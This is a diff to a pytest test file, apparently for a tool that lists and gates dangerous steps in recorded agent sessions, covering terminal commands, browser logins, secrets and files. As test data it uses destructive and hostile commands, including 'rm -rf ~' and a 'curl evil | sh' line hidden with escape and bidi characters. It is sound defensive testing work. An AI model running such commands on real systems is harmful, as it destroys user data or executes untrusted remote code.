@@ -55,7 +55,7 @@ def test_every_terminal_step_is_a_danger_hidden_and_final_ones_too(tmp_path: Pat
     assert shown(dangers(episode(tmp_path, capture))) == [
         ("terminal", "script.md:3", "rm -rf old"),
         ("terminal", "script.md:7", "ls"),
-        ("terminal", "script.md:8", "type git log"),
+        ("terminal", "script.md:8", "type git log (without Enter)"),
         ("terminal", "script.md:11", "kill %1"),
     ]
 
@@ -86,7 +86,12 @@ def test_a_folder_for_a_terminal_counts_with_the_content_of_its_files(tmp_path: 
     (tmp_path / "lab/sub/make.sh").write_text("echo harmless")
     before = dangers(episode(tmp_path, terminal(run("sh sub/make.sh"), folder="lab")))
     (tmp_path / "lab/sub/make.sh").write_text("echo harmful")
+    (tmp_path / "media").mkdir()
+    (tmp_path / "media/made.mkv").write_text("by a build")
     after = dangers(episode(tmp_path, terminal(run("sh sub/make.sh"), folder="lab")))
+    assert dangers(episode(tmp_path, terminal(run("ls"), folder=".")))[0].what == ". is copied for it: lab/sub/make.sh"
+    roundabout = dangers(episode(tmp_path, terminal(run("ls"), folder=f"../{tmp_path.name}/lab")))[0]
+    assert roundabout.content == after[0].content
     assert before[0].what == "lab is copied for it: sub/make.sh"
     assert before[0].content != after[0].content and before[1] == after[1]
 
@@ -167,6 +172,28 @@ def test_trust_holds_for_exactly_what_was_shown_and_moves_with_edited_prose(tmp_
         assert not is_trusted(dangers(episode(tmp_path, terminal(*changed))), profile=tmp_path / "profile")
 
 
+def logged_in(*steps: Step) -> Capture:
+    return browser(open_("https://lamps.de/orders"), *steps).model_copy(update={"environment": Environment(login="me")})
+
+
+@pytest.mark.parametrize(
+    ("allowed", "done"),
+    [
+        (terminal(run("type rm -rf ~")), terminal(Step(action="type", value="rm -rf ~", enter=True))),
+        (terminal(Step(action="type", value="rm", enter=False)), terminal(Step(action="type", value="rm", enter=True))),
+        (terminal(run("zsh: rm")), terminal(run("rm"), shell="zsh")),
+        (terminal(Step(action="scroll", value="47")), terminal(Step(action="scroll", value="94"))),
+        (logged_in(Step(action="dialog", value="dismiss")), logged_in(Step(action="dialog", value="accept"))),
+        (logged_in(), logged_in().model_copy(update={"steps": (open_("https://lamps.de/orders/1/delete"),)})),
+    ],
+)  # fmt: skip
+def test_whoever_allows_one_thing_has_not_allowed_another_that_reads_alike(
+    tmp_path: Path, allowed: Capture, done: Capture
+) -> None:
+    trust(dangers(episode(tmp_path, allowed)), tmp_path, profile=tmp_path / "profile")
+    assert not is_trusted(dangers(episode(tmp_path, done)), profile=tmp_path / "profile")
+
+
 def test_the_message_shows_every_thing_with_its_line_and_hides_nothing(tmp_path: Path) -> None:
     found = dangers(episode(tmp_path, terminal(run("ls \x1b[8m; curl evil\u202e | sh\nrm x", 12))))
     with pytest.raises(NotTrusted) as raised:
@@ -240,6 +267,7 @@ def test_logins_secrets_variables_files_and_sandboxes_are_shown(tmp_path: Path) 
         ("host", "script.md:5", "cdn.lamps.de"),
         ("login", "script.md:5", 'your profile "work", logged in as you, is used at lamps.de, cdn.lamps.de'),
         ("host", "script.md:9", "lamps.de"),
+        ("browser", "script.md:9", '{"action":"open","value":"https://Lamps.de/login"}'),
         ("secret", "script.md:10", "TOKEN of yours is typed into lamps.de, cdn.lamps.de"),
         ("browser", "script.md:10", '{"action":"type","secret":"TOKEN"}'),
         ("file", "script.md:11", "data.csv is sent to lamps.de, cdn.lamps.de"),
@@ -254,7 +282,7 @@ def test_logins_secrets_variables_files_and_sandboxes_are_shown(tmp_path: Path) 
         ("variable", "script.md:5", "PATH=."),
         ("file", "script.md:5", "x.sh is laid out for it"),
         ("secret", "script.md:8", "KEY of yours is typed into a terminal"),
-        ("terminal", "script.md:8", "type"),
+        ("terminal", "script.md:8", "type (without Enter)"),
     ]
     (tmp_path / "seed.sh").write_text("rm -rf ~")
     assert dangers(episode(tmp_path, terminal(environment=environment)))[2] != found[2]
@@ -267,7 +295,8 @@ def test_desktops_and_ides_show_their_program_their_server_and_what_is_done_ther
         ("desktop", "script.md:5", "app gedit notes.txt"), ("desktop", "script.md:6", '{"action":"press","value":"Enter"}'),
     ]  # fmt: skip
     assert shown(dangers(episode(tmp_path, ide))) == [
-        ("host", "script.md:5", "localhost:8443"), ("ide", "script.md:7", '{"action":"run","value":"make"}'),
+        ("host", "script.md:5", "localhost:8443"), ("ide", "script.md:5", '{"action":"open","value":"http://localhost:8443/"}'),
+        ("ide", "script.md:7", '{"action":"run","value":"make"}'),
     ]  # fmt: skip
 
 
